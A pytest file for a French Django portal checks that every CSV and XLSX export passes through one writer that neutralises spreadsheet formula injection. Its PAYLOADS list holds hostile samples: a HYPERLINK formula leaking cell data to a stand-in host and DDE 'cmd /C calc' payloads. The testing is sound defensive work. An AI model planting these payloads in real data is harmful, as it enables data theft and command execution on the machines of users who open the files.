"""Formula injection (issue 16, finding 6): every CSV and XLSX file the portal writes goes
through one writer (``iae_portal.exports``), which neutralises text a spreadsheet would run
as a formula, the same way in CSV and XLSX, and leaves numbers numbers.

The exports are found, not listed by hand: every URL pattern that gives a spreadsheet (a
``.csv`` or ``.xlsx`` route, or an ``export`` one) and every management command with a
``--format csv``. A new one fails ``test_every_export_is_known_here`` until ``EXPORTS``
says how to ask it; then the formula-like names below go through it."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command, get_commands, load_command_class
from django.test import TestCase
from django.urls import URLResolver, get_resolver, reverse

from aides import services
from clauses.models import Lot
from iae_portal import exports
from tests.aides.factories import CA_DATA, CampaignFactory, move, pdf_upload
from tests.clauses.factories import (
    FacilitatorFactory,
    HoursReportFactory,
    LotFactory,
    PlannedPurchaseFactory,
)
from tests.dla.factories import PrestationFactory
from tests.structures.factories import MembershipFactory, StructureFactory

ROOT = Path(__file__).resolve().parent.parent

# Names an attacker may give a structure, a project, a buyer, a facilitator: the OWASP
# classic, the same behind a blank (importers that trim blanks run it) and behind a line
# break, a DDE call starting with a minus, and full-width signs.
PAYLOADS = [
    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")',
    ' =HYPERLINK("https://exemple.invalid/";"Cliquez")',
    "\u00a0\n@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\uff1d1+1",
]
# What a spreadsheet runs, read independently of the writer: a formula sign first, or
# after blanks; a tab, CR or NUL first.
RUNS = re.compile(r"^(?:[\t\r\0]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])")


# -- The writer ------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", [*PAYLOADS, "+33 3 83 00 00 00", "\tx", "\rx", "@x"])
def test_formula_like_text_gets_a_quote(payload):
    assert exports.neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "text", ["Chantier d'insertion", "", " ", "A-B", "Métropole = Nancy", "'=déjà", "\nx"]
)
def test_plain_text_is_unchanged(text):
    assert exports.neutralise(text) == text


def test_numbers_stay_numbers_and_text_is_escaped_in_csv_and_xlsx():
    headers = [exports.Column("Nom"), exports.Column("Montant", exports.AMOUNT)]
    rows = [["=1+1", Decimal("-5")], ["-5", 3]]
    text = exports.csv_bytes(headers, rows).decode("utf-8")
    assert text == "\ufeffNom;Montant\r\n'=1+1;-5,00\r\n'-5;3,00\r\n"
    book = openpyxl.load_workbook(io.BytesIO(exports.xlsx_bytes(headers, rows)))
    values = [[cell.value for cell in row] for row in book.active.iter_rows()]
    assert values == [["Nom", "Montant"], ["'=1+1", Decimal("-5")], ["'-5", 3]]


def test_no_module_but_the_writer_writes_a_spreadsheet():
    """One writer for all exports: ``csv.writer``/``DictWriter`` and openpyxl appear in
    ``iae_portal/exports.py`` only (reading a CSV is the importers' business)."""
    writing = re.compile(r"csv\.(?:writer|DictWriter)\b|\bopenpyxl\b")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("iae_portal", "structures", "aides", "dla", "clauses")
        for path in (ROOT / folder).rglob("*.py")
        if "migrations" not in path.parts
        and path != ROOT / "iae_portal" / "exports.py"
        and writing.search(path.read_text())
    ]
    assert offenders == []


# -- Every export ----------------------------------------------------------------------------

SPREADSHEET_ROUTE = re.compile(r"\\?\.(?:csv|xlsx)|export|\(\?P<fmt>")


def url_patterns(patterns=None, prefix="", namespace=None):
    for entry in get_resolver().url_patterns if patterns is None else patterns:
        route = prefix + str(entry.pattern)
        if isinstance(entry, URLResolver):
            inner = ":".join(filter(None, (namespace, entry.namespace))) or None
            yield from url_patterns(entry.url_patterns, route, inner)
        else:
            yield ":".join(filter(None, (namespace, entry.name))), route


def export_patterns():
    return {name for name, route in url_patterns() if SPREADSHEET_ROUTE.search(route)}


def csv_commands():
    """Management commands with a ``--format`` offering ``csv``."""
    found = set()
    for name, app in get_commands().items():
        if app.startswith("django") or app in ("rest_framework", "axes", "drf_spectacular"):
            continue
        parser = load_command_class(app, name).create_parser("manage.py", name)
        for action in parser._actions:
            if "--format" in action.option_strings and "csv" in (action.choices or ()):
                found.add(name)
    return found


# How to ask each export: (URL kwargs, query) of each request, and whether the payload
# reaches it (a bilan of reference data only carries no name anyone typed).
EXPORTS = {
    "aides:queue_export": ([({"fmt": "csv"}, {}), ({"fmt": "xlsx"}, {})], True),
    "structures:export": ([({"fmt": "csv"}, {}), ({"fmt": "xlsx"}, {})], True),
    "clauses:bilan_csv": (
        [({}, {"year": 2025, "tableau": t}) for t in ("acheteurs", "facilitateurs", "siae")]
        + [({}, {"year": 2025})],
        True,
    ),
    "dla:bilan_csv": ([({}, {"year": 2024}), ({}, {"year": 2024, "department": "54"})], False),
    # Social utility's statistics (labels of the registry only) and missing reports (the
    # world's structure has no conventionnement, so is expected for no year: the names'
    # escaping is tests/utilite/test_statistics_pages.py's).
    "utilite:statistics_export": ([({"fmt": "csv"}, {}), ({"fmt": "xlsx"}, {})], False),
    "utilite:missing_export": ([({"fmt": "csv"}, {}), ({"fmt": "xlsx"}, {})], False),
    # A reserved lot's ranked candidates, the payload structure among them (its kwargs name
    # the world's lot once it exists).
    "clauses:lot_candidates_export": (
        [
            (lambda fmt=fmt: {"uuid": Lot.objects.get().uuid, "fmt": fmt}, {"liste": "classement"})
            for fmt in ("csv", "xlsx")
        ],
        True,
    ),
    # A buyer's programme of planned purchases, the payload its buyer and a purchase's object.
    "clauses:programme_export": (
        [({"fmt": fmt}, {"year": 2025, "status": "prevu"}) for fmt in ("csv", "xlsx")],
        True,
    ),
}
# Each command's arguments and the CSV's first line (its contract: dla.md, clauses.md,
# utilite-sociale.md).
BILAN_HEADER = "year,department,kind,code,n,median,q1,q3,total,pooled,yes_share"
COMMANDS = {
    "clauses_bilan": (["--year", "2025", "--format", "csv"], "key,value"),
    "dla_bilan": (["--year", "2024", "--format", "csv"], "key,value"),
    "utilite_sociale_bilan": (["--year", "2025", "--format", "csv"], BILAN_HEADER),
}


def test_every_export_is_known_here():
    assert export_patterns() == set(EXPORTS), "say in EXPORTS how to ask the new export"
    assert csv_commands() == set(COMMANDS), "say in COMMANDS how to run the new command"


@pytest.fixture
def world(payload, settings):
    """The payload as a structure's name and a dossier's title (in Meurthe-et-Moselle), a
    buyer's and a facilitator's names (contracts of 2025), beside a DLA prestation of 2024."""
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {"BACKEND": "django.core.files.storage.InMemoryStorage"},
    }
    structure = StructureFactory(name=payload)
    director = MembershipFactory(structure=structure).user
    campaign = CampaignFactory()
    dossier = services.dossier_create(
        actor=director, structure=structure, campaign=campaign, title=payload
    )
    services.dossier_save_data(
        actor=director, dossier=dossier, expected_version=dossier.version, data=CA_DATA
    )
    for kind in campaign.scheme.required_documents:
        services.document_add(actor=director, dossier=dossier, kind=kind, upload=pdf_upload())
    move(dossier, director, "submit")
    lot = LotFactory(
        clause="marche_reserve",  # a reserved lot: its candidates may be exported too
        marche__buyer__name=payload,
        marche__notification_date=datetime.date(2025, 3, 1),
        facilitator=FacilitatorFactory(name=payload),
    )
    HoursReportFactory(lot=lot, siae=structure, modality="mise_a_disposition", hours=12)
    PlannedPurchaseFactory(buyer=lot.marche.buyer, object=payload, year=2025)
    PrestationFactory(beneficiaries=[structure])
    return payload


def fetch(client, url, query):
    """``(content type, content)`` of an export: its answer, or the file it prepared
    (its task run once the request's transaction commits) when it prepares one."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.get(url, query)
    if response.status_code == 302 and response["Location"].startswith("/fichiers/"):
        prepared = client.get(response["Location"]).context["prepared"]
        assert prepared.state == "ready", prepared.failure
        response = client.get(reverse("prepared:download", args=[prepared.uuid]))
    assert response.status_code == 200, url
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response["Content-Type"], content


def cells(content_type, content):
    """Every cell of a CSV or XLSX download, as the text a spreadsheet would get."""
    if content_type.startswith("text/csv"):
        text = content.decode("utf-8")
        assert text.startswith("\ufeff")  # French Excel's format, kept
        return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("immediate_rows", [2000, -1], ids=["immediate", "prepared"])
def test_a_formula_like_name_is_neutralised_in_every_export(
    client, admin_user, world, settings, immediate_rows
):
    """Written during the request, or prepared in the background (``iae_portal.prepared``)
    for the exports that may be: the same writer, the same cells."""
    settings.IAE_EXPORT_IMMEDIATE_ROWS = immediate_rows
    client.force_login(admin_user)
    for name, (requests, carries_payload) in EXPORTS.items():
        for kwargs, query in requests:
            kwargs = kwargs() if callable(kwargs) else kwargs
            where = f"{name} {kwargs} {query}"
            found = cells(*fetch(client, reverse(name, kwargs=kwargs), query))
            assert [cell for cell in found if RUNS.match(cell)] == [], where
            if carries_payload and query.get("tableau") != "siae" and query != {"year": 2025}:
                assert "'" + world in found, where


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS[:1])
def test_the_commands_csv_keep_their_format_and_run_nothing(world):
    for name, (arguments, header) in COMMANDS.items():
        out = io.StringIO()
        call_command(name, *arguments, stdout=out)
        text = out.getvalue()
        assert text.startswith(header + "\n") and "\r" not in text, name
        rows = list(csv.reader(io.StringIO(text)))
        assert all(len(row) == header.count(",") + 1 for row in rows), name
        assert [cell for row in rows for cell in row if RUNS.match(cell)] == [], name
